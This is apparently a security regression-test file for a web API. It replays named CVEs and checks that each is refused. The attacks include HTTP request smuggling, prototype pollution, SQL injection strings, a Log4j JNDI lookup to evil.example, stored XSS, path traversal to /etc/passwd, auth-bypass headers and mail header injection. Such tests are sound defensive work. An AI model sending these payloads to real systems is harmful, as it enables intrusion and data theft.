import assert from 'node:assert/strict'
import { makeResidence } from '../make-residence.ts'
import { exchange, listenAnywhere } from '../raw-exchange.ts'
import { ask, assertRefused, type Attack } from './attack.ts'

const signIn = '/api/sessions'
const credentials = { email: 'a@example.org', password: 'whatever it is', transport: 'bearer' }
const jsonType = { 'content-type': 'application/json' }
const smuggled = 'GET /api/smuggled HTTP/1.1\r\nHost: x\r\n\r\n'

/** Bytes that one server read as one request and another one as two. */
function framing(source: string, story: string, headers: string, payload: string): Attack {
  return {
    source,
    kind: 'parser',
    story,
    async replay(app) {
      const head = `POST ${signIn} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n`
      const { statuses, text } = await exchange(await listenAnywhere(app.server), `${head}${headers}\r\n\r\n${payload}`)
      assert.deepEqual(statuses, [400], text)
    }
  }
}

/** A body that was read as something it should not have been. */
function body(source: string, story: string, sent: string | Buffer, ...statuses: number[]): Attack {
  return {
    source,
    kind: 'parser',
    story,
    async replay(app) {
      const { token } = await app.person('Ada')
      const headers = { ...jsonType, authorization: `Bearer ${token}` }
      const answer = await app.inject({ method: 'PATCH', url: '/api/me', headers, payload: sent })
      assertRefused(answer, ...statuses)
      assert.equal(Reflect.get({}, 'admin'), undefined)
    }
  }
}

export const requestAttacks: Attack[] = [
  framing(
    'CVE-2022-32215 (Node.js)',
    'Transfer-Encoding over two lines',
    'Transfer-Encoding: chunked\r\n , identity',
    `0\r\n\r\n${smuggled}`
  ),
  framing(
    'CVE-2022-32213 (Node.js)',
    'Transfer-Encoding that nobody knows',
    'Transfer-Encoding: chunkedchunked',
    `0\r\n\r\n${smuggled}`
  ),
  framing(
    'CVE-2022-32214, CVE-2023-30589 (Node.js)',
    'A header ended by a carriage return alone',
    'X: y\rContent-Length: 10\r\nTransfer-Encoding: chunked',
    '0\r\n\r\n'
  ),
  framing(
    'CVE-2024-27982 (Node.js)',
    'A space before Content-Length',
    ` Content-Length: 0\r\nContent-Length: ${smuggled.length}`,
    smuggled
  ),
  framing(
    'Kettle 2019, CL.TE',
    'A length and chunks together',
    'Content-Length: 4\r\nTransfer-Encoding: chunked',
    `0\r\n\r\n${smuggled}`
  ),
  framing(
    'CVE-2024-22019 (Node.js)',
    'A chunk extension without end',
    'Transfer-Encoding: chunked',
    `1;${'a'.repeat(30_000)}\r\n{\r\n0\r\n\r\n`
  ),
  body(
    'CVE-2017-12635 (CouchDB)',
    'Of two equal keys one reader took the first, one the last',
    '{"displayName":"a","displayName":"b"}',
    400
  ),
  body(
    'CVE-2019-10744 (lodash)',
    'constructor.prototype reached every object',
    '{"displayName":"a","constructor":{"prototype":{"admin":true}}}',
    400
  ),
  body(
    'CVE-2018-3721 (lodash)',
    '__proto__ reached every object',
    '{"displayName":"a","__proto__":{"admin":true}}',
    400
  ),
  body(
    'CVE-2020-36518 (jackson-databind)',
    'Brackets in brackets until the stack was used up',
    '['.repeat(200_000),
    400
  ),
  body(
    'CVE-2025-1094 (PostgreSQL’s psql)',
    'Bytes that are no UTF-8 ended a quotation',
    Buffer.from([...Buffer.from('{"displayName":"'), 0xc0, 0x27, 0x22, 0x7d]),
    400
  ),
  body(
    'CWE-158, NUL in text',
    'A NUL that the database cannot keep became a fault',
    '{"displayName":"a\\u0000b"}',
    400
  ),
  {
    source: 'CVE-2026-25223 (Fastify)',
    kind: 'parser',
    story: 'A tab after the media type got past the check of the body.',
    async replay(app) {
      const headers = { 'content-type': 'application/json\ta' }
      assertRefused(await app.inject({ method: 'POST', url: signIn, headers, payload: '{"x":1}' }), 415)
    }
  },
  {
    source: 'CVE-2022-41919 (Fastify)',
    kind: 'spoofing',
    story: 'A type that needs no preflight was parsed all the same: another site’s page could write.',
    async replay(app) {
      const { token } = await app.person('Ada')
      for (const type of [
        'text/plain',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=application/json'
      ]) {
        const headers = { 'content-type': type, authorization: `Bearer ${token}` }
        assertRefused(
          await app.inject({ method: 'PATCH', url: '/api/me', headers, payload: '{"displayName":"M"}' }),
          415
        )
      }
    }
  },
  {
    source: 'Gmail 2007 (a filter that another site’s page set)',
    kind: 'spoofing',
    story: 'The browser sent the cookie along with a form of another site.',
    async replay(app) {
      const { token } = await app.person('Ada')
      const cookie = `__Host-honeydue=${token}`
      const from: Record<string, string>[] = [
        { 'sec-fetch-site': 'cross-site' },
        { 'sec-fetch-site': 'same-site' },
        { origin: 'https://evil.example' },
        { origin: 'null' },
        { origin: 'http://localhost:8080.evil.example' },
        {}
      ]
      for (const headers of from) {
        const answer = await ask(app, {
          method: 'PATCH',
          url: '/api/me',
          headers: { cookie, ...headers },
          json: { displayName: 'M' }
        })
        assertRefused(answer, 403)
      }
    }
  },
  {
    source: 'CVE-2025-29927 (Next.js)',
    kind: 'spoofing',
    story: 'A header meant for inside let requests pass by the check.',
    async replay(app) {
      const headers = {
        'x-middleware-subrequest': 'middleware:middleware:middleware',
        'x-user-id': '1',
        'x-forwarded-user': 'admin',
        'x-authenticated-userid': '1',
        'x-remote-user': 'admin'
      }
      assertRefused(await ask(app, { url: '/api/me', headers }), 401)
    }
  },
  {
    source: 'CVE-2018-14773 (Symfony)',
    kind: 'spoofing',
    story: 'A header said which address was really meant.',
    async replay(app) {
      const headers = { 'x-original-url': '/api/residences', 'x-rewrite-url': '/api/residences' }
      assertRefused(await ask(app, { url: '/api/nothing', headers }), 404)
    }
  },
  {
    source: 'Frameworks with method override (OWASP WSTG-CONF-06)',
    kind: 'spoofing',
    story: 'A harmless method became another one by a header or a parameter.',
    async replay(app) {
      const ada = await app.person('Ada')
      const home = await makeResidence(ada)
      const headers = { 'x-http-method-override': 'DELETE', 'x-method-override': 'DELETE' }
      const { token } = ada
      await ask(app, { url: `/api/residences/${home.id}?_method=DELETE`, headers, token })
      await ask(app, {
        method: 'PATCH',
        url: `/api/residences/${home.id}`,
        headers,
        token,
        json: { name: 'Still here' }
      })
      assert.equal((await ask(app, { url: `/api/residences/${home.id}`, token })).statusCode, 200)
    }
  },
  {
    source: 'CVE-2021-41773 and CVE-2021-42013 (Apache httpd)',
    kind: 'parser',
    story: 'Dots that were encoded, once or twice, led out of the folder.',
    async replay(app) {
      for (const way of ['..', '%2e%2e', '.%2e', '%252e%252e', '..%5c', '%c0%ae%c0%ae', '..;'])
        assertRefused(await app.inject({ url: `/api/residences/${way}/${way}/${way}/etc/passwd` }), 401, 404)
    }
  },
  {
    source: 'CVE-2022-39288 (Fastify)',
    kind: 'parser',
    story: 'A header with a strange media type ended the process.',
    async replay(app) {
      for (const type of ['__proto__', 'constructor', '/', ';', 'application/json;;', 'a'.repeat(5000)])
        assertRefused(
          await app.inject({ method: 'POST', url: signIn, headers: { 'content-type': type }, payload: '{}' }),
          415
        )
      assertRefused(await ask(app, { method: 'POST', url: signIn, json: credentials }), 401)
    }
  },
  {
    source: 'CVE-2017-16016 (sanitize-html) and other stored scripts',
    kind: 'injection',
    story: 'A name that was a script ran in the browsers of the others.',
    async replay(app) {
      const ada = await app.person('Ada')
      const name = '<script>alert(1)</script><img src=x onerror=alert(1)>'
      const home = await makeResidence(ada, { name })
      const answer = await ask(app, { url: `/api/residences/${home.id}`, token: ada.token })
      assert.equal(answer.json<{ name: string }>().name, name)
      assert.match(String(answer.headers['content-type']), /^application\/json/)
      assert.equal(answer.headers['x-content-type-options'], 'nosniff')
      assert.match(String(answer.headers['content-security-policy']), /default-src 'none'/)
    }
  },
  {
    source: 'CVE-2021-44228 (Log4j)',
    kind: 'injection',
    story: 'What was logged was looked at for commands.',
    async replay(app) {
      const command = '${jndi:ldap://evil.example/a}\u001b[2J'
      await ask(app, {
        method: 'POST',
        url: signIn,
        json: { ...credentials, email: command },
        headers: { 'user-agent': '${jndi:ldap://evil.example/a}' }
      })
      assert.doesNotMatch(JSON.stringify(app.log.lines), /jndi/)
    }
  },
  {
    source: 'CVE-2019-14234 (Django) and all of SQL injection',
    kind: 'injection',
    story: 'Text in a search, a cursor or a filter became part of the statement.',
    async replay(app) {
      const ada = await app.person('Ada')
      const home = await makeResidence(ada)
      const payloads = [
        "'",
        "' or 1=1 --",
        "'; drop table tasks; --",
        '1; select pg_sleep(9)',
        '%',
        '\\',
        '$1',
        "') union select * from users --"
      ]
      for (const parameter of ['search', 'cursor', 'category', 'assignee', 'limit', 'dueFrom', 'state'])
        for (const payload of payloads) {
          const url = `/api/residences/${home.id}/tasks?${parameter}=${encodeURIComponent(payload)}`
          const answer = await ask(app, { url, token: ada.token })
          assertRefused(answer, 200, 400, 422)
          if (answer.statusCode === 200) assert.deepEqual(answer.json<{ items: [] }>().items, [])
        }
    }
  },
  {
    source: 'CVE-2022-31129 (moment) and other slow patterns',
    kind: 'parser',
    story: 'A text made for it kept a pattern busy for minutes.',
    async replay(app) {
      const { token } = await app.person('Ada')
      for (const text of ['a'.repeat(50_000), '('.repeat(50_000), `${'a.'.repeat(20_000)}@`, '-'.repeat(50_000)]) {
        assertRefused(await ask(app, { method: 'POST', url: '/api/password-resets', json: { email: text } }), 422)
        const json = { rrule: text, startOn: '2026-03-10' }
        assertRefused(await ask(app, { method: 'POST', url: '/api/schedule-previews', token, json }), 422)
      }
    }
  },
  {
    source: 'OWASP API4:2023, as much as somebody asks for',
    kind: 'parser',
    story: 'A page of a billion entries, a calendar of a thousand years.',
    async replay(app) {
      const ada = await app.person('Ada')
      const home = await makeResidence(ada)
      for (const path of ['tasks?limit=1000000000', 'tasks?limit=-1', 'calendar?from=1900-01-01&to=2200-12-31'])
        assertRefused(await ask(app, { url: `/api/residences/${home.id}/${path}`, token: ada.token }), 422)
    }
  },
  {
    source: 'HTTP parameter pollution (Balduzzi and others 2011; OWASP WSTG-INPV-04)',
    kind: 'parser',
    story: 'Of the same parameter twice the check read one and the query the other.',
    async replay(app) {
      const ada = await app.person('Ada')
      const home = await makeResidence(ada)
      for (const query of [
        'state=all&state=active',
        'limit=1&limit=100',
        'limit[]=1',
        'limit=1&limit[gt]=5',
        '__proto__[x]=1'
      ])
        assertRefused(await ask(app, { url: `/api/residences/${home.id}/tasks?${query}`, token: ada.token }), 422)
    }
  },
  {
    source: 'CWE-436, a cookie and a bearer token in one request',
    kind: 'spoofing',
    story: 'The proxy judged by one of two credentials, the service by the other.',
    async replay(app) {
      const [ada, bob] = [await app.person('Ada'), await app.person('Bob')]
      const headers = { cookie: `__Host-honeydue=${ada.token}` }
      assertRefused(await ask(app, { url: '/api/me', headers, token: bob.token }), 400)
    }
  },
  {
    source: 'GHSA-45q4-x4r9-8fqj, CVE-2026-35600 (Vikunja)',
    kind: 'injection',
    story: 'A name became a picture or a link in the mail that it stood in.',
    async replay(app) {
      const displayName = '![x](http://evil.example/p.png) [click](http://evil.example) http://evil.example'
      const json = {
        email: 'anna@example.org',
        password: 'sieben rote Tulpen',
        displayName,
        timeZone: 'UTC',
        language: 'en'
      }
      await ask(app, { method: 'POST', url: '/api/registrations', json })
      await app.runJobs()
      assert.doesNotMatch(JSON.stringify(app.mail.sent), /https?:\/\/evil|\]\(http/)
    }
  },
  {
    source: 'CVE-2021-23400 (nodemailer)',
    kind: 'injection',
    story: 'A line break in an address added a recipient.',
    async replay(app) {
      for (const email of [
        'a@example.org\r\nBcc: evil@example.org',
        '"a@evil.example"@example.org',
        'a@example.org,evil@example.org',
        '<a@example.org>'
      ])
        assertRefused(await ask(app, { method: 'POST', url: '/api/password-resets', json: { email } }), 422)
    }
  }
]
